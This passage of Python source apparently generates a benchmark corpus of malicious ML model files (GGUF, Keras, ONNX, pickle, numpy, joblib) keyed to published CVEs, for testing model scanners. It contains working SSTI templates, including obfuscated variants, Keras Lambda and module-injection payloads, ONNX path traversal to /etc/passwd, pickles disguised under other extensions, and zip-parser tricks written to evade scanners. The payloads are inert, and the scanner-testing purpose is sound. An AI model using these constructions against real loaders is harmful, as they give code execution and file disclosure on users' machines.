        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return path.read_bytes()


@attack(
    "gguf-chat-template-ssti",
    "gguf",
    "CVE-2024-34359 (llama-cpp-python 'Llama Drama'): Jinja SSTI in tokenizer.chat_template",
)
def _gguf_ssti() -> dict[str, bytes]:
    return {"model.gguf": gguf_file({"tokenizer.chat_template": SSTI})}


@attack(
    "gguf-chat-template-obfuscated",
    "gguf",
    "CVE-2024-34359 with |attr() and \\x5f escapes instead of dunder literals",
)
def _gguf_obf() -> dict[str, bytes]:
    return {"model.gguf": gguf_file({"tokenizer.chat_template": SSTI_OBFUSCATED})}


@attack(
    "gguf-named-template-ssti",
    "gguf",
    "CVE-2024-34359 in a named template (tokenizer.chat_template.tool_use, read by llama.cpp)",
)
def _gguf_named() -> dict[str, bytes]:
    safe = "{% for m in messages %}{{ m['content'] }}{% endfor %}"
    kv = {"tokenizer.chat_template": safe, "tokenizer.chat_template.tool_use": SSTI}
    return {"model.gguf": gguf_file(kv)}


@attack(
    "gguf-kv-count-overflow",
    "gguf",
    "GGUF parser overflow class (llama.cpp PR #19856 'gguf: prevent integer overflows'): huge n_kv",
)
def _gguf_kv() -> dict[str, bytes]:
    return {"model.gguf": b"GGUF" + struct.pack("<IQQ", 3, 1, 1 << 62) + bytes(64)}


@attack(
    "gguf-string-length-overflow",
    "gguf",
    "llama.cpp PR #19856 ('prevent string exhaustion'): a key string whose length field is 2^63",
)
def _gguf_str() -> dict[str, bytes]:
    return {"model.gguf": b"GGUF" + struct.pack("<IQQQ", 3, 0, 1, 1 << 63) + b"general.name"}


# --- Keras -------------------------------------------------------------------------------------


def lambda_code() -> str:
    """func_dump-style base64 marshal of ``lambda x: __import__('os').system('true') or x``
    (compiled, never called)."""
    module = compile("lambda x: __import__('os').system('true') or x", "<lambda>", "eval")
    code = next(c for c in module.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(code)).decode()


def keras_archive(layers: list[dict[str, object]]) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": "float32",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
                    "registered_name": None,
                },
                *layers,
            ],
            "build_input_shape": [None, 4],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }
    metadata = {"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}
    return zip_bytes(
        [
            Member("metadata.json", json.dumps(metadata).encode()),
            Member("config.json", json.dumps(config).encode()),
            Member("model.weights.h5", _empty_h5()),
        ]
    )


def _empty_h5() -> bytes:
    try:
        import h5py
    except ImportError:
        return b""
    buf = io.BytesIO()
    with h5py.File(buf, "w", track_order=True) as f:
        f.create_group("layers")
        f.create_group("vars")
    return buf.getvalue()


@attack("keras-lambda", "keras", "CVE-2024-3660 (Keras < 2.13): Lambda layer marshalled bytecode")
def _keras_lambda() -> dict[str, bytes]:
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": lambda_code(), "defaults": None, "closure": None},
            },
            "arguments": {},
        },
        "registered_name": None,
    }
    return {"model.keras": keras_archive([layer])}


@attack(
    "keras-module-injection",
    "keras",
    "CVE-2025-1550 (Keras < 3.9, safe_mode bypass): config names an arbitrary module/function",
)
def _keras_module() -> dict[str, bytes]:
    layer = {
        "module": "subprocess",
        "class_name": "function",
        "config": "check_output",
        "registered_name": "function",
        "inbound_nodes": [{"args": [["true"]], "kwargs": {}}],
    }
    return {"model.keras": keras_archive([layer])}


@attack(
    "keras-safe-mode-off",
    "keras",
    "CVE-2025-9906 / CVE-2025-8747 (io-no/CVE-Reports #5): a Lambda whose function is a Keras "
    "API that turns safe_mode off, then loads a second model",
)
def _keras_safe_mode() -> dict[str, bytes]:
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "unsafe_deserialization",
            "function": {
                "module": "keras.config",
                "class_name": "function",
                "config": "enable_unsafe_deserialization",
                "registered_name": "function",
            },
            "arguments": {},
        },
        "registered_name": None,
    }
    return {"model.keras": keras_archive([layer])}


@attack(
    "h5-lambda",
    "keras",
    "CVE-2025-9905 (Keras legacy .h5 ignores safe_mode) / CVE-2024-3660: Lambda in model_config",
)
def _h5_lambda() -> dict[str, bytes]:
    import h5py

    config = {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 4], "dtype": "float32"},
                },
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "lambda",
                        "function": [lambda_code(), None, None],
                        "function_type": "lambda",
                        "module": "__main__",
                        "output_shape": None,
                        "output_shape_type": "raw",
                        "arguments": {},
                    },
                },
            ],
        },
    }
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(config)
        f.create_group("model_weights")
    return {"model.h5": buf.getvalue()}


# --- ONNX --------------------------------------------------------------------------------------


def onnx_external(location: str) -> bytes:
    from onnx import TensorProto, helper

    weight = helper.make_tensor("W", TensorProto.FLOAT, [4], [0.0] * 4)
    weight.ClearField("float_data")
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    node = helper.make_node("Identity", ["W"], ["Y"])
    graph = helper.make_graph(
        [node], "g", [], [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])], [weight]
    )
    model = helper.make_model(
        graph, producer_name="bench", opset_imports=[helper.make_opsetid("", 17)]
    )
    model.ir_version = 8
    return model.SerializeToString()


@attack(
    "onnx-external-traversal",
    "onnx",
    "CVE-2022-25882 (onnx external data): location '../../etc/passwd'",
)
def _onnx_dotdot() -> dict[str, bytes]:
    return {"model.onnx": onnx_external("../../etc/passwd")}


@attack(
    "onnx-external-nested-traversal",
    "onnx",
    "CVE-2024-27318 (bypass of the CVE-2022-25882 fix): location 'weights/../../../etc/passwd'",
)
def _onnx_nested() -> dict[str, bytes]:
    return {"model.onnx": onnx_external("weights/../../../etc/passwd")}


@attack("onnx-external-absolute", "onnx", "CVE-2022-25882 class: absolute location '/etc/passwd'")
def _onnx_abs() -> dict[str, bytes]:
    return {"model.onnx": onnx_external("/etc/passwd")}


# --- extension lies --------------------------------------------------------------------------


@attack(
    "lie-safetensors", "ext-lie", "a pickle named model.safetensors (loaders sniff, users trust)"
)
def _lie_st() -> dict[str, bytes]:
    return {"model.safetensors": payload_pickle(4)}


@attack(
    "lie-bin-protocol0",
    "ext-lie",
    "CVE-2025-10155 (JFrog, picklescan): protocol-0 pickle named pytorch_model.bin",
)
def _lie_bin() -> dict[str, bytes]:
    return {"pytorch_model.bin": pk.whole(system(0), 0)}


@attack("lie-config-json", "ext-lie", "CVE-2025-1889 class: a pickle named config.json")
def _lie_json() -> dict[str, bytes]:
    return {"config.json": payload_pickle(2)}


@attack(
    "lie-npy-plain-pickle",
    "ext-lie",
    "np.load(allow_pickle=True) falls back to pickle.load for non-.npy bytes named .npy",
)
def _lie_npy() -> dict[str, bytes]:
    return {"weights.npy": payload_pickle(2)}


@attack("lie-onnx", "ext-lie", "a pickle named model.onnx")
def _lie_onnx() -> dict[str, bytes]:
    return {"model.onnx": payload_pickle(4)}


@attack("lie-gguf", "ext-lie", "a pickle named model.gguf")
def _lie_gguf() -> dict[str, bytes]:
    return {"model.gguf": payload_pickle(5)}


@attack("lie-txt-bz2", "ext-lie", "a bz2-compressed pickle named vocab.txt (joblib/pandas sniff)")
def _lie_txt() -> dict[str, bytes]:
    return {"vocab.txt": bz2.compress(payload_pickle(2))}


# --- harder cases: parser differentials, inline pickles, library gadgets -------------------------


def zipfile_bytes(files: list[tuple[str, bytes]], method: int) -> bytes:
    """A zip written by Python's own zipfile (for bzip2 / LZMA members), fixed timestamps."""
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in files:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = method
            zf.writestr(info, data)
    return buf.getvalue()


@attack(
    "jl-object-array-inline",
    "joblib",
    "joblib's NumpyArrayWrapper: an object-dtype array is stored as an inline pickle right after "
    "the wrapper (joblib read_array pickle.loads it); scanners that skip array bytes skip it",
)
def _jl_object() -> dict[str, bytes]:
    import os

    import joblib
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0] = "label"
    arr[1] = _Reduce(os.system, ("true",))
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.joblib"
        joblib.dump({"classes": arr, "coef": np.ones(4)}, path)
        return {"model.joblib": path.read_bytes()}


@attack(
    "pt-zip-duplicate-name",
    "pytorch",
    "duplicate central-directory names (zip parser differential, cf. Android 'Master Key'): a "
    "clean archive/data.pkl, then one with the payload; torch 2.13 loads the last (checked on a "
    "benign pair), a scanner that keeps the first entry per name misses it",
)
def _pt_dup() -> dict[str, bytes]:
    members = torch_zip_members(
        state_dict(SMALL_SD), extra=[Member("archive/data.pkl", evil_state_dict())]
    )
    return {"model.pt": zip_bytes(members)}


@attack(
    "pt-pickle-before-zip",
    "pytorch",
    "torch.load only takes the zip path when byte 0 is 'PK'; a pickle followed by a clean torch "
    "zip is unpickled from byte 0, while zipfile-based scanners see only the appended zip",
)
def _pt_prefixed() -> dict[str, bytes]:
    clean = zip_bytes(torch_zip_members(state_dict(SMALL_SD)))
    return {"model.pt": legacy_file(state_dict(SMALL_SD, extra=system(2), legacy=True)) + clean}


@attack(
    "npz-object-bzip2-member",
    "numpy",
    "numpy reads npz members through zipfile, which inflates bzip2 (method 12) members",
)
def _npz_bz2() -> dict[str, bytes]:
    bad = npy_header("|O", (1,)) + payload_pickle(3)
    return {"arrays.npz": zipfile_bytes([("meta.npy", bad)], 12)}


@attack(
    "npz-object-lzma-member",
    "numpy",
    "the same with an LZMA (method 14) member",
)
def _npz_lzma() -> dict[str, bytes]:
    bad = npy_header("|O", (1,)) + payload_pickle(3)
    return {"arrays.npz": zipfile_bytes([("meta.npy", bad)], 14)}


@attack(
    "npy-v2-object-array",
    "numpy",
    "object-dtype .npy with a version 2.0 header (4-byte header length)",
)
def _npy_v2() -> dict[str, bytes]:
    v1 = npy_header("|O", (1,))
    header = v1[10:]
    v2 = b"\x93NUMPY\x02\x00" + struct.pack("<I", len(header) + 2) + header + b"  "
    return {"embeddings.npy": v2 + payload_pickle(3)}


@attack(
    "polyglot-pickle-h5",
    "archive",
    "HDF5 with a 512-byte user block holding a pickle: h5py/Keras open it, pickle.load runs it",
)
def _polyglot_h5() -> dict[str, bytes]:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w", userblock_size=512) as f:
        f.create_dataset("w", data=[1.0, 2.0])
    data = bytearray(buf.getvalue())
    pickle_bytes = payload_pickle(2)
    data[: len(pickle_bytes)] = pickle_bytes
    return {"model.h5": bytes(data)}


# Library functions that an allowlist of "ML globals" may admit but that write files or fetch
# and run code (arXiv 2508.19774's "risky function surface": gadgets in trusted libraries).


@attack(
    "pkl-gadget-numpy-save", "pickle", "arXiv 2508.19774 gadget class: numpy.save writes a file"
)
def _g_np_save() -> dict[str, bytes]:
    return {"model.pkl": _reached("numpy", "save", [CANARY, [1, 2]], 2)}


@attack(
    "pkl-gadget-torch-save", "pickle", "arXiv 2508.19774 gadget class: torch.save writes a file"
)
def _g_torch_save() -> dict[str, bytes]:
    return {"model.pkl": _reached("torch", "save", [{}, CANARY], 2)}


@attack(
    "pkl-gadget-torch-hub-load",
    "pickle",
    "arXiv 2508.19774 gadget class: torch.hub.load fetches and runs a repository's hubconf",
)
def _g_hub() -> dict[str, bytes]:
    return {"model.pkl": _reached("torch.hub", "load", ["invalid/none", "x"], 2)}


@attack(
    "pkl-gadget-joblib-dump", "pickle", "arXiv 2508.19774 gadget class: joblib.dump writes a file"
)
def _g_joblib() -> dict[str, bytes]:
    return {"model.pkl": _reached("joblib", "dump", [[1], CANARY], 2)}


@attack(
    "pkl-gadget-numpy-memmap",
    "pickle",
    "arXiv 2508.19774 gadget class: numpy.memmap(mode='w+') creates/truncates a file",
)
def _g_memmap() -> dict[str, bytes]:
    return {"model.pkl": _reached("numpy", "memmap", [CANARY, "uint8", "w+", 0, (1,)], 2)}


@attack(
    "gguf-ssti-computed-names",
    "gguf",
    "CVE-2024-34359 with every dunder name computed at render time ('%c'|format(95) ~ ...)",
)
def _gguf_computed() -> dict[str, bytes]:
    template = (
        "{% set u = '%c'|format(95) ~ '%c'|format(95) %}"
        "{% set g = u ~ 'glob' ~ 'als' ~ u %}"
        "{{ (lipsum|attr(g))['o' ~ 's'].popen('true') }}"
    )
    return {"model.gguf": gguf_file({"tokenizer.chat_template": template})}


@attack(
    "onnx-external-symlink",
    "onnx",
    "CVE-2026-27489 (onnx <= 1.20.1, path traversal via symlink): a relative external-data "
    "location that is a symlink to /etc/passwd (directory sample)",
)
def _onnx_symlink() -> dict[str, bytes]:
    return {"model.onnx": onnx_external("weights.bin"), "weights.bin": SYMLINK + b"/etc/passwd"}


SYMLINK = b"\0symlink\0"
"""A file whose bytes start with this is written as a symlink to the rest (see build())."""


@attack(
    "keras-get-file",
    "keras",
    "CVE-2025-8747 (Keras < 3.11): a Lambda whose function is keras.utils.get_file, with the "
    "download URL and target in its arguments",
)
def _keras_get_file() -> dict[str, bytes]:
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "fetch",
            "function": {
                "module": "keras.utils",
                "class_name": "function",
                "config": "get_file",
                "registered_name": "function",
            },
            "arguments": {"origin": "http://127.0.0.1:9/payload.tar.gz", "fname": CANARY},
        },
        "registered_name": None,
    }
    return {"model.keras": keras_archive([layer])}
